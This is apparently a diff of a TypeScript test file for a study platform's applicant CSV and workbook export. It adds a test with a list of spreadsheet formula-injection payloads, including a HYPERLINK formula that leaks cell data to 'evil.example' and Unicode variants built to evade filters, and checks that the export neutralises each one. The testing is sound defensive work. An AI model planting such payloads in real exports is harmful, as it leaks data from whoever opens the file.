@@ -1,8 +1,9 @@
 import type { AddressInfo } from 'node:net';
 import { sql } from 'kysely';
-import { afterAll, beforeAll, describe, expect, test } from 'vitest';
-import { PROJECT_BASE } from '@app/contracts/bases.ts';
+import { beforeAll, expect, test } from 'vitest';
 import { today } from '@app/contracts/calendar.ts';
+import { PROJECT_BASE } from '@app/contracts/bases.ts';
+import { changeOwnAccount } from '@app/contracts/identity/own-account.ts';
 import type { SignedInUser } from '@app/contracts/identity/person.ts';
 import { codeOf } from '@app/contracts/participant-code.ts';
 import { applicantWords } from '@app/words/applicants.ts';
@@ -15,27 +16,24 @@ import {
 } from '@app/contracts/project/applicants.ts';
 import { withdrawApplication } from '@app/contracts/project/applications.ts';
 import type { Study } from '@app/contracts/project/studies.ts';
-import { deleteStudy } from '@app/contracts/project/study-calls.ts';
-import { startTestApp, type TestApp } from '@app/test/support/app.ts';
+import { useApp } from '@app/test/support/app.ts';
 import { registerParticipant, registerResearcher } from '@app/test/support/people.ts';
 import { readWorkbook } from '@app/test/support/read-workbook.ts';
 import { addApplicants, decide } from '#test/applicants.ts';
 import { readCsv } from '#test/read-csv.ts';
-import { apply, makeDraft, makeProject, makePublished, studyBody } from '#test/studies.ts';
+import { apply, makeProject, makePublished, studyBody } from '#test/studies.ts';
 
-let app: TestApp;
+const app = useApp();
 let researcher: SignedInUser;
 let other: SignedInUser;
 let projectId: string;
 beforeAll(async () => {
-  app = await startTestApp();
   [researcher, other] = await Promise.all([
     registerResearcher(app, { verified: true }),
     registerResearcher(app, { verified: true }),
   ]);
   projectId = (await makeProject(app, researcher)).id;
 });
-afterAll(() => app.close());
 
 const save = (study: Pick<Study, 'id'>, query: Record<string, string> = {}, as = researcher) =>
   app.call(exportApplicants, { as, params: { id: study.id }, query });
@@ -83,59 +81,24 @@ test('AP6 a line for each applicant, newest first, in the words of the screen', 
     'GH₵ 10,000 to 30,000',
     'Mobile phone',
   ];
+  const blank = (count: number) => Array<string>(count).fill('');
+  const [daily, never] = [
+    ['Every day', 'At the market'],
+    ['Never', 'At the market'],
+  ] as const;
   expect(lines).toEqual([
-    [
-      ...facts(yaw, ofYaw),
-      'Not qualified',
-      'Withdrawn',
-      ...Array.from({ length: 11 }, () => ''),
-      'Never',
-      'At the market',
-    ],
-    [
-      ...facts(esi, ofEsi),
-      'Qualified',
-      'Pending',
-      ...Array.from({ length: 11 }, () => ''),
-      'Every day',
-      'At the market',
-    ],
+    [...facts(yaw, ofYaw), 'Not qualified', 'Withdrawn', ...blank(11), ...never],
+    [...facts(esi, ofEsi), 'Qualified', 'Pending', ...blank(11), ...daily],
     [
       ...facts(kofi, ofKofi),
       'Not qualified',
       'Declined',
       instant,
       'The dates do not fit',
-      '',
-      '',
-      '',
-      '',
-      '',
-      '',
-      '',
-      '',
-      '',
-      'Never',
-      'At the market',
+      ...blank(9),
+      ...never,
     ],
-    [
-      ...facts(ama, ofAma),
-      'Qualified',
-      'Accepted',
-      instant,
-      '',
-      '',
-      '',
-      '',
-      '',
-      '',
-      '',
-      '',
-      'Call first',
-      'Yes',
-      'Every day',
-      'At the market',
-    ],
+    [...facts(ama, ofAma), 'Qualified', 'Accepted', instant, ...blank(8), 'Call first', 'Yes', ...daily],
   ]);
 
   const some = readCsv(
@@ -160,6 +123,85 @@ test('B3 the workbook has the rows of the CSV, and its name', async () => {
   const rows = readWorkbook(answer.bytes);
   expect(rows.map((row) => row.map(String))).toEqual(readCsv((await save(study)).text));
   expect(rows[1]!.filter((cell) => typeof cell === 'number')).toHaveLength(1);
+});
+
+/** Texts of somebody who wishes the researcher's spreadsheet ill, and of people with ordinary names. */
+const dangerous = [
+  '=HYPERLINK("https://evil.example?"&A1,"x")',
+  '+1+1',
+  '-2+3',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\ttab',
+  '  =1+1',
+  '\u00a0=1+1',
+  '\u200b=1+1',
+  '\u202e=1+1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠x',
+  '\u3000＝1+1',
+  '﹦1+1',
+  '="a"\r\n,"b"',
+];
+const harmless = [
+  'Nana "Kofi" Ama',
+  "O'Brien, Jr.",
+  'Ɛyɛ ɔkɔtɔ ŋ',
+  'a\r\nb\nc',
+  'new line\n=1+1',
+  'return\r=1+1',
+  '👩🏾‍🔬 and 🇬🇭',
+  '1 - 2 = -1',
+  ' a space before',
+  '"',
+  ',',
+  "'quoted'",
+];
+
+test('AP6 cells that a spreadsheet would run are text: questions, answers, names and remarks; every other text is as it was', async () => {
+  const texts = [...dangerous, ...harmless];
+  const screeners = texts.map((text, index) => ({
+    id: `q${String(index).padStart(5, '0')}`,
+    question: text,
+    options: [
+      { id: `a${String(index).padStart(5, '0')}`, answer: text, eligibility: 'QUALIFY' as const },
+      { id: `b${String(index).padStart(5, '0')}`, answer: 'no', eligibility: '' as const },
+    ],
+  }));
+  const study = await makePublished(app, researcher, { projectId, screeners });
+  const applicant = await registerParticipant(app, { withProfile: true });
+  const body = { firstName: '=Ama"', lastName: '+Ɔwusu, Jr', phoneNumber: '' };
+  expect((await app.call(changeOwnAccount, { as: applicant, body })).status).toBe(200);
+  const application = (await apply(app, applicant, study)).content;
+  const params = { id: study.id, applicationId: application.id };
+  for (const [index, text] of texts.entries()) {
+    await app.call(remarkApplicant, { as: researcher, params, body: { remarks: text } });
+    const [header = [], line = []] = readCsv((await save(study)).text);
+    const written = index < dangerous.length ? `'${text}` : text;
+    const remarks = header.indexOf(applicantWords.file.columns.remarks);
+    expect(line[remarks]).toBe(written);
+  }
+  const [header = [], line = []] = readCsv((await save(study)).text);
+  const written = [...dangerous.map((text) => `'${text}`), ...harmless];
+  expect(header.slice(-texts.length)).toEqual(written);
+  expect(line.slice(-texts.length)).toEqual(written);
+  expect(line.slice(1, 4)).toEqual([`'=Ama"`, `'+Ɔwusu, Jr`, codeOf(application.id)]);
+});
+
+test('a question without text has a header all the same', async () => {
+  const [first] = studyBody('').screeners;
+  if (!first) throw new Error('The sample asks nothing');
+  const study = await makePublished(app, researcher, {
+    projectId,
+    screeners: [{ ...first, question: '' }],
+  });
+  expect(readCsv((await save(study)).text)).toEqual([
+    [...Object.values(applicantWords.file.columns), applicantWords.blankQuestion],
+  ]);
 });
 
 test('many applicants come batch by batch, each once, also those who applied in one moment', async () => {
@@ -193,33 +235,21 @@ test('a file that fails under way breaks off', async () => {
   await expect(answer.text()).rejects.toThrow('terminated');
 });
 
-describe('OBS-2 D-21', () => {
-  const notes = async () => {
-    const { rows } = await sql<{ userId: string; about: string }>`
-      select user_id as "userId", about from project.audit where event = 'APPLICANTS_EXPORTED'`.execute(
-      app.engine.owner,
-    );
-    return rows;
-  };
-
-  test('an export is written down, and a refused one is none', async () => {
-    const study = await makePublished(app, researcher, { projectId });
-    const gone = await makeDraft(app, researcher, { projectId });
-    await app.call(deleteStudy, { as: researcher, params: { id: gone.id } });
-    const before = (await notes()).length;
-    for (const [asked, as] of [
-      [study, other],
-      [gone, researcher],
-      [{ id: crypto.randomUUID() }, researcher],
-    ] as const) {
-      const refused = await save(asked, {}, as);
-      expect(refused).toMatchObject({ status: 404, json: { code: 'STUDY_NOT_FOUND' } });
-      expect(refused.headers['content-disposition']).toBeUndefined();
-    }
-    expect(await notes()).toHaveLength(before);
-    await save({ id: study.id.toUpperCase() });
-    expect((await notes()).slice(before)).toEqual([{ userId: researcher.userId, about: study.id }]);
-  });
+test('OBS-2 an export is written down, and a refused one is none', async () => {
+  const study = await makePublished(app, researcher, { projectId });
+  const notes = async () =>
+    (
+      await sql<{ userId: string }>`
+        select user_id as "userId" from project.audit where event = 'APPLICANTS_EXPORTED' and about = ${study.id}`.execute(
+        app.engine.owner,
+      )
+    ).rows;
+  const refused = await save(study, {}, other);
+  expect(refused).toMatchObject({ status: 404, json: { code: 'STUDY_NOT_FOUND' } });
+  expect(refused.headers['content-disposition']).toBeUndefined();
+  expect(await notes()).toEqual([]);
+  await save({ id: study.id.toUpperCase() });
+  expect(await notes()).toEqual([{ userId: researcher.userId }]);
 });
 
 test('D-30 AZ-8 AP6 no answer about applicants holds a number, an address or a place to pay to', async () => {
